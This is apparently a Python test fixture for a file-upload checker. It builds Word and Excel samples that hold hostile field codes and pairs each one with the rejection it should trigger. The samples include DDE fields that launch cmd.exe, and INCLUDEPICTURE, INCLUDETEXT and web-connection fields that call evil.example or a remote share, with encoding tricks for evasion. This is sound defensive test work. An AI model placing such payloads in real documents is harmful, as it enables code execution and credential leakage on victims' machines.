"""Texts and tables that fetch or start something once their fields are brought up to date."""

from __future__ import annotations

from collections.abc import Iterable

FAR = ("INCLUDE", "PICTURE ", '"http://evil.example/', 'seen.png" \\d')
LINK = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
SIMPLE = (
    b"<w:d xmlns:w='w'><w:fldSimple "
    b"w:instr=' includepicture &quot;&#104;ttps://e.example/x&quot;'/></w:d>"
)


def field(*pieces: str, ends: bool = True) -> bytes:
    """A text with one field, its code cut into runs as Word cuts it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
    end = mark.format("separate") + mark.format("end") if ends else ""
    told = mark.format("begin") + runs + end
    return f"<w:document xmlns:w='w'><w:p>{told}</w:p></w:document>".encode()


def bodies() -> Iterable[tuple[str, bytes, str]]:
    """Name, the document itself, how it is refused."""
    shell = field(" DDE", "AUTO c:\\\\windows\\\\cmd.exe ", '"/k calc"')
    yield "域动态.docx", shell, "upload_macros"
    yield "域未完.docx", field("DDE x y", ends=False), "upload_macros"
    yield "域图.docx", field(*FAR), "upload_outside"
    yield "域宽.docx", field(*FAR).decode().encode("utf-16"), "upload_outside"
    yield "域简.docx", SIMPLE, "upload_outside"
    long = field("PAGE").replace(b"<w:p>", b"<w:p>" + b"<w:r/>" * 400_000)
    yield "域断.docx", long + b"<", "upload_broken"


def parts() -> Iterable[tuple[str, dict[str, bytes], str]]:
    """Name, one part of the file, how it is refused."""
    share = field("INCLUDETEXT \\\\\\\\evil.example\\\\share\\\\x.docx")
    yield "域库.docx", {"word/footer1.xml": field("DATABASE \\d x")}, "upload_macros"
    yield "域文.docx", {"word/header1.xml": share}, "upload_outside"
    # the types say what Word reads, not the name
    yield "域另名.docx", {"word/real.dat": field(*FAR)}, "upload_outside"
    yield "动态.xlsx", {"xl/externalLinks/externalLink1.xml": LINK}, "upload_macros"
    for told in ("<webPr url='http://evil.example/'/>", "<connection refreshOnLoad='1'/>"):
        made = {"xl/connections.xml": f"<connections>{told}</connections>".encode()}
        yield "连接.xlsx", made, "upload_outside"
